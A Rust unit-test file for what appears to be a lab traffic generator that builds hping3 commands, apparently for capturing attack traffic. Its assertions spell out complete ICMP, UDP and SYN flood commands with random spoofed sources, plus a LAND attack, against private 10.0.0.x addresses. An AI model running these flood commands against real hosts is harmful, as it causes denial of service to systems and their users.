use crate::attack::{FloodMode, SpoofSource, Target, default_attacks};
use std::net::Ipv4Addr;
use std::time::Duration;

const TIMEOUT: Duration = Duration::from_secs(20);

#[test]
fn icmp_flood_command_matches_capture_script() {
    let attacks = default_attacks();
    let cmd = attacks[0].command(Ipv4Addr::new(10, 0, 0, 7), TIMEOUT);
    assert_eq!(
        cmd,
        "timeout 20s hping3 -1 -V -d 120 -w 64 -p 80 --rand-source --flood 10.0.0.7"
    );
}

#[test]
fn udp_flood_command_matches_capture_script() {
    let attacks = default_attacks();
    let cmd = attacks[1].command(Ipv4Addr::new(10, 0, 0, 12), TIMEOUT);
    assert_eq!(
        cmd,
        "timeout 20s hping3 -2 -V -d 120 -w 64 --rand-source --flood 10.0.0.12"
    );
}

#[test]
fn syn_flood_targets_the_web_server_host() {
    let attacks = default_attacks();
    assert_eq!(
        attacks[2].target,
        Target::Fixed {
            ip: Ipv4Addr::new(10, 0, 0, 1)
        }
    );
    let cmd = attacks[2].command(Ipv4Addr::new(10, 0, 0, 1), TIMEOUT);
    assert_eq!(
        cmd,
        "timeout 20s hping3 -S -V -d 120 -w 64 -p 80 --rand-source --flood 10.0.0.1"
    );
}

#[test]
fn land_attack_spoofs_source_to_destination() {
    let attacks = default_attacks();
    let cmd = attacks[3].command(Ipv4Addr::new(10, 0, 0, 9), TIMEOUT);
    assert_eq!(
        cmd,
        "timeout 20s hping3 -1 -V -d 120 -w 64 --flood -a 10.0.0.9 10.0.0.9"
    );
}

#[test]
fn sequence_order_is_fixed() {
    let attacks = default_attacks();
    assert_eq!(attacks.len(), 4);

    let modes: Vec<FloodMode> = attacks.iter().map(|a| a.mode).collect();
    assert_eq!(
        modes,
        [FloodMode::Icmp, FloodMode::Udp, FloodMode::Syn, FloodMode::Icmp]
    );
    assert_eq!(attacks[3].spoof, SpoofSource::Destination);
    for attack in &attacks {
        assert_eq!(attack.data_bytes, 120);
        assert_eq!(attack.win_bytes, 64);
    }
}

#[test]
fn burst_timeout_is_rendered_into_the_command() {
    let attacks = default_attacks();
    let cmd = attacks[1].command(Ipv4Addr::new(10, 0, 0, 3), Duration::from_secs(5));
    assert!(cmd.starts_with("timeout 5s hping3 -2"), "{cmd}");
}
